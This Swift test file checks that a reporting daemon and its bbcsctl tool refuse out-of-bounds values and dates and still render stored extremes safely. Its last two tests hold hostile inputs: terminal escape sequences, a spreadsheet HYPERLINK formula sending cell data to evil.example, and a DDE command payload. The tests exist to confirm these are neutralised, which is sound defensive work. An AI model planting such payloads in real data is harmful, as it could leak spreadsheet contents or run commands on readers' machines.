import BBCSClient
import BBCSCore
import BBCSPostgres
import BBCSProtocol
import BBCSTestSupport
import Foundation
import Testing

/// Values and text that cannot hurt readers, over the real socket and the real bbcsctl, with
/// the daemon's clock at 10 July 2026: values beyond what their unit allows are refused where
/// they come in; values stored beyond those bounds, and stored text carrying terminal escapes
/// or spreadsheet formulas, still print for every reader, harmlessly.
@Suite("values and text that cannot hurt readers, over the socket")
struct HostileDataTests {
    static let daemon = try! TestDaemon(extraArguments: ["--now", "2026-07-10T09:00:00Z"])
    static let formats = ["text", "markdown", "html", "csv", "json"]

    func client() throws -> Client { try Self.daemon.client() }

    /// What bbcsctl printed for `arguments`, once it exited 0.
    func ctl(_ arguments: [String]) throws -> String {
        let result = try Self.daemon.ctl(arguments)
        #expect(result.status == 0, "bbcsctl \(arguments.joined(separator: " ")) exited \(result.status): \(result.err)")
        return result.out
    }

    /// A hand edit reaches the daemon's memory as every change does, through a row in
    /// `changes`: records one and waits until `reading` (bbcsctl's arguments) shows `expected`.
    func recordHandEdit(_ db: PGConnection, thenWaitFor reading: [String], toShow expected: String) throws {
        _ = try db.query("INSERT INTO changes (kind, login) VALUES ('plan', 'test')")
        try waitFor(timeout: .seconds(10)) { try Self.daemon.ctl(reading).out.contains(expected) }
    }

    /// Control characters a terminal would obey: C0 apart from newline and tab, DEL, C1.
    func terminalControls(in text: String) -> [Unicode.Scalar] {
        text.unicodeScalars.filter { $0.properties.generalCategory == .control && $0 != "\n" && $0 != "\t" }
    }

    @Test(arguments: [
        ("ComS_012", "2025/26 Q1", 1e19),                 // a count far beyond 2^53
        ("ComS_014", "2025/26 Q1", 9_007_199_254_740_992), // 2^53 itself: no longer exact
        ("ComS_033", "2025/26", 1_000_001),               // a percentage above the ceiling
        ("ComS_101", "2025/26", 1e19),
    ] as [(String, String, Double)])
    func valuesBeyondTheirUnitAreRefused(_ code: String, _ period: String, _ value: Double) throws {
        let c = try client()
        let error = try #require(c.error(FigureSubmitRequest(code: code, period: Period(period)!, value: value, note: "n")))
        #expect(error.code == .invalidParams && error.data?["param"] == "value", "\(error)")
        #expect(try c.call(FigureHistoryRequest(code: code, period: Period(period)!)).revisions.isEmpty)
    }

    @Test func correctionsAndTargetsKeepTheSameBounds() throws {
        let c = try client()
        let q1 = Period("2025/26 Q1")!
        _ = try c.call(FigureSubmitRequest(code: "ComS_013", period: q1, value: 20))
        let corrected = try #require(c.error(FigureCorrectRequest(code: "ComS_013", period: q1, value: 1e19, reason: "typo", revision: 1,
                                                                  note: "n")))
        #expect(corrected.code == .invalidParams && corrected.data?["param"] == "value", "\(corrected)")
        let target = try #require(c.error(TargetSetRequest(code: "ComS_100", period: Period("2026/27")!, value: 1e19, reason: "x")))
        #expect(target.code == .invalidParams && target.data?["param"] == "value", "\(target)")
        let percent = try #require(c.error(TargetSetRequest(code: "ComS_048", period: Period("2026/27")!, value: 2e6, reason: "x")))
        #expect(percent.code == .invalidParams && percent.data?["param"] == "value", "\(percent)")
        let tolerance = try #require(c.error(TargetSetRequest(code: "ComS_100", period: Period("2026/27")!, value: 450, tolerance: 1e19,
                                                              reason: "x")))
        #expect(tolerance.code == .invalidParams && tolerance.data?["param"] == "tolerance", "\(tolerance)")
        #expect(try c.call(TargetHistoryRequest(code: "ComS_100")).changes.isEmpty)

        // The largest count still goes in, and prints exactly.
        _ = try c.call(FigureSubmitRequest(code: "ComS_097", period: q1, value: 9_007_199_254_740_991))
        #expect(try ctl(["indicator", "show", "ComS_097"]).contains("9007199254740991"))
    }

    @Test(arguments: [(0, "actuals", "2021/22", 1e19), (59, "targets", "2025/26", 2e6)])  // ComS_001 a count, ComS_054 a percentage
    func aPlanFileBeyondTheBoundsIsRefused(_ index: Int, _ field: String, _ year: String, _ value: Double) throws {
        var plan = try #require(try JSONSerialization.jsonObject(with: Data(shippedPlanText.utf8)) as? [String: Any])
        var indicators = try #require(plan["indicators"] as? [[String: Any]])
        var values = try #require(indicators[index][field] as? [String: Any])
        values[year] = value
        indicators[index][field] = values
        plan["indicators"] = indicators
        let content = String(decoding: try JSONSerialization.data(withJSONObject: plan), as: UTF8.self)
        let error = try #require(try client().error(PlanImportRequest(content: content)))
        #expect(error.code == .invalidParams, "\(error)")
        let code = try #require(indicators[index]["code"] as? String)
        #expect(error.data?["path"] == "indicators[\(index)] (\(code)).\(field).\(year)", "\(error)")
    }

    /// Values no request may store today, put straight into the database as an older daemon
    /// or a hand edit might have left them: every reader's command still prints.
    @Test func storedExtremeValuesStillRender() throws {
        let db = try PGConnection(conninfo: Self.daemon.database)
        func insertFigure(_ code: String, _ period: String, _ value: String) throws {
            _ = try db.query("""
                INSERT INTO figures (indicator_id, period, revision, value, note, submitted_by)
                SELECT id, $1, 1, $2::numeric, 'stored by hand', 'test' FROM indicators WHERE code = $3
                """, [period, value, code])
        }
        // Not a number and infinity are refused by the database itself, whoever writes, and
        // so is a period that names no year.
        for period in ["2025/27 Q1", "0000/01", "9999/00"] {
            #expect(throws: PGError.self) { try insertFigure("ComS_011", period, "1") }
        }
        for value in ["NaN", "Infinity"] {
            #expect(throws: PGError.self) { try insertFigure("ComS_011", "2025/26 Q3", value) }
            #expect(throws: PGError.self) {
                _ = try db.query("UPDATE indicator_values SET value = $1::numeric WHERE kind = 'target' AND period = '2025/26'", [value])
            }
        }
        try insertFigure("ComS_011", "2025/26 Q1", "1e19")
        try insertFigure("ComS_011", "2025/26 Q2", "1e19")
        // Two quarters near Double's limit: their year to date would be infinite.
        try insertFigure("ComS_025", "2025/26 Q1", "1.7e308")
        try insertFigure("ComS_025", "2025/26 Q2", "1.7e308")
        _ = try db.query("""
            UPDATE indicator_values SET value = 1e19
            WHERE kind = 'target' AND period = '2025/26' AND indicator_id = (SELECT id FROM indicators WHERE code = 'ComS_024')
            """)
        try recordHandEdit(db, thenWaitFor: ["indicator", "show", "ComS_011"], toShow: "1e+19")

        #expect(try ctl(["indicator", "show", "ComS_011"]).contains("1e+19"))
        #expect(try ctl(["indicator", "show", "ComS_025"]).contains("1.7e+308"))
        #expect(try ctl(["indicator", "show", "ComS_024"]).contains("1e+19%"))
        #expect(try ctl(["indicators"]).contains("1e+19"))
        #expect(try ctl(["figure", "history", "ComS_011"]).contains("1e+19"))
        for format in Self.formats {
            let out = try ctl(["report", "--period", "2025/26 Q2", "--format", format])
            #expect(out.contains("1e+19") || out.contains("10000000000000000000"), "\(format)")
        }
        let report = try client().call(ReportRequest(period: Period("2025/26 Q2")!))
        let line = try #require(report.sections.flatMap(\.indicators).first { $0.code == "ComS_025" })
        #expect(line.value == 1.7e308 && line.yearToDate == nil)
    }

    /// Numbers a Double cannot hold (a numeric of 1e400) and numbers near its limit, stored
    /// by hand in every column a reader shows: figures, targets, target changes, baseline
    /// actuals, budget amounts. Every bbcsctl reading prints them, as text and as JSON, and no
    /// reply is `internal`.
    @Test func storedValuesBeyondADoubleStillRender() throws {
        let db = try PGConnection(conninfo: Self.daemon.database)
        func execute(_ sql: String, _ values: [String] = []) throws { _ = try db.query(sql, values) }
        let indicator = "(SELECT id FROM indicators WHERE code = $1)"
        for (code, period, value) in [("ComS_044", "2025/26 Q1", "1e400"), ("ComS_044", "2025/26 Q2", "1.7e308"),
                                      ("ComS_049", "2025/26 Q1", "1e400")] {
            try execute("INSERT INTO figures (indicator_id, period, revision, value, submitted_by) VALUES (\(indicator), $2, 1, $3::numeric, 'test')",
                        [code, period, value])
        }
        for (code, kind, period, value) in [("ComS_044", "target", "2025/26", "1.7e308"), ("ComS_049", "target", "2025/26", "1e400"),
                                            ("ComS_038", "actual", "2023/24", "1e400"), ("ComS_038", "actual", "2022/23", "1.7e308")] {
            try execute("UPDATE indicator_values SET value = $4::numeric WHERE indicator_id = \(indicator) AND kind = $2 AND period = $3",
                        [code, kind, period, value])
        }
        try execute("""
            INSERT INTO target_changes (indicator_id, period, old_value, new_value, old_tolerance, new_tolerance, reason, changed_by, changed_at)
            VALUES (\(indicator), '2025/26', 1e400, 1.7e308, 5, 5, 'by hand', 'test', now())
            """, ["ComS_044"])
        try execute(#"UPDATE budget_lines SET amounts = '{"2025/26": 1e400, "2026/27": -1.7e308}' WHERE position = 0"#)
        try recordHandEdit(db, thenWaitFor: ["indicator", "show", "ComS_044"], toShow: "1.7e+308")

        let readings = [["indicators"], ["indicator", "show", "ComS_044"], ["indicator", "show", "ComS_049"], ["indicator", "show", "ComS_038"],
                        ["figure", "history", "ComS_044"], ["due", "--all"], ["target", "history", "ComS_044"], ["plan", "show"]]
            + Self.formats.map { ["report", "--period", "2025/26 Q2", "--format", $0] } + [["report", "--period", "2025/26 Q2"]]
        for reading in readings {
            #expect(!(try ctl(reading)).isEmpty, "\(reading)")
            if !reading.contains("--format") { #expect(!(try ctl(["--json"] + reading)).isEmpty, "--json \(reading)") }
        }
        #expect(try ctl(["indicator", "show", "ComS_044"]).contains("1.7e+308"))
        let report = try client().call(ReportRequest(period: Period("2025/26 Q2")!))
        #expect(report.sections.flatMap(\.indicators).contains { $0.code == "ComS_044" && $0.value == 1.7e308 })

        // Such values can be put right: a correction and a new target over them are stored.
        let c = try client()
        let corrected = c.error(FigureCorrectRequest(code: "ComS_044", period: Period("2025/26 Q1")!, value: 5, reason: "typed by hand",
                                                     revision: 1, note: "n"))
        #expect(corrected == nil, "\(String(describing: corrected))")
        let target = c.error(TargetSetRequest(code: "ComS_049", period: Period("2025/26")!, value: 50, reason: "typed by hand"))
        #expect(target == nil, "\(String(describing: target))")
    }

    /// Dates stored by hand beyond year 9999 (PostgreSQL holds them to 5874897): every
    /// reading of them prints, and the scheduler, which reads every task and strategy, runs.
    @Test func storedDatesBeyondFourDigitsStillRead() throws {
        let db = try PGConnection(conninfo: Self.daemon.database)
        _ = try db.query("UPDATE tasks SET target_date = '12345-06-30' WHERE code = 'BCRPASB_30'")
        _ = try db.query("UPDATE strategies SET renewal_date = '5874897-12-31' WHERE position = 0")
        try recordHandEdit(db, thenWaitFor: ["task", "show", "BCRPASB_30"], toShow: "12345-06-30")
        #expect(try ctl(["task", "show", "BCRPASB_30"]).contains("12345-06-30"))
        for reading in [["tasks"], ["strategies"], ["report", "--period", "2025/26 Q2"], ["scheduler", "run"]] {
            #expect(!(try ctl(reading)).isEmpty, "\(reading)")
        }
        #expect(try client().call(StrategyListRequest()).strategies.contains { $0.renewalDate?.year == 5_874_897 })
        // Dates that come in stay within four digits.
        let refused = try #require(try client().error(TaskRescheduleRequest(code: "BCRPASB_30", date: CalendarDate(iso: "12345-07-31")!,
                                                                            reason: "far")))
        #expect(refused.code == .invalidParams && refused.data?["param"] == "date", "\(refused)")
    }

    /// Notes, names and titles carrying ANSI escapes (retitle the window, clear the screen,
    /// colour) and 8-bit controls print with them replaced, in every layout.
    @Test func storedTextPrintsWithoutTerminalControls() throws {
        let c = try client()
        let escapes = "\u{1B}]0;pwned\u{07}\u{1B}[2J\u{1B}[31mFine\u{9B}0m\u{7F}"
        _ = try c.call(FigureSubmitRequest(code: "ComS_093a", period: Period("2025/26 Q2")!, value: 40, note: "Quiet " + escapes))
        _ = try c.call(FigureCorrectRequest(code: "ComS_093a", period: Period("2025/26 Q2")!, value: 41, reason: "recount " + escapes,
                                            revision: 1))
        _ = try c.call(TaskUpdateRequest(code: "BCRPASB_27", status: .onTrack, progress: 50, note: "Drafts " + escapes))
        _ = try c.call(UserAddRequest(login: "daemon", name: "Daemon"))
        let db = try PGConnection(conninfo: Self.daemon.database)
        // A name is one line and the daemon refuses controls in it now; one stored before still prints safely.
        _ = try db.query("UPDATE users SET name = $1 WHERE login = 'daemon'", ["Dae" + escapes + "mon"])
        _ = try db.query("UPDATE indicators SET title = $1 WHERE code = 'ComS_093a'", ["Licensing " + escapes])
        _ = try db.query("INSERT INTO changes (kind, login) VALUES ('plan', 'test')")
        try waitFor(timeout: .seconds(10)) { try c.call(IndicatorShowRequest(code: "ComS_093a")).indicator.title.hasPrefix("Licensing \u{1B}") }

        var outputs = [
            try ctl(["indicator", "show", "ComS_093a"]), try ctl(["indicators"]), try ctl(["figure", "history", "ComS_093a"]),
            try ctl(["task", "history", "BCRPASB_27"]), try ctl(["user", "list"]),
        ]
        for format in Self.formats where format != "json" {
            outputs.append(try ctl(["report", "--period", "2025/26 Q2", "--format", format]))
        }
        for out in outputs.map({ $0.replacingOccurrences(of: "\r\n", with: "\n") }) {  // CSV's own line ends
            #expect(terminalControls(in: out).isEmpty, "\(out.prefix(300))")
            #expect(out.contains("\u{FFFD}[2J"), "\(out.prefix(300))")
        }
        // JSON is for scripts: the encoder writes C0 controls as \u escapes.
        #expect(!(try ctl(["report", "--period", "2025/26 Q2", "--format", "json"])).contains("\u{1B}"))
    }

    /// A note that a spreadsheet would run as a formula is text in the CSV; numbers stay numbers.
    @Test func csvCellsNeverRunAsFormulas() throws {
        let c = try client()
        let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Details\")"
        _ = try c.call(FigureSubmitRequest(code: "ComS_093b", period: Period("2025/26 Q2")!, value: 30, note: formula))
        _ = try c.call(TaskUpdateRequest(code: "BCRPASB_17", status: .onTrack, progress: 10, note: "@SUM(1+1)*cmd|' /C calc'!A0"))
        let csv = try ctl(["report", "--period", "2025/26 Q2", "--format", "csv"])
        #expect(csv.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Details\"\")\""), "\(csv)")
        #expect(csv.contains("'@SUM(1+1)*cmd|' /C calc'!A0"))
        let cells = csv.components(separatedBy: "\r\n").flatMap { $0.components(separatedBy: ",") }
        #expect(!cells.contains { $0.hasPrefix("=") || $0.hasPrefix("@") || $0.hasPrefix("+") || $0.hasPrefix("\"=") })
    }
}
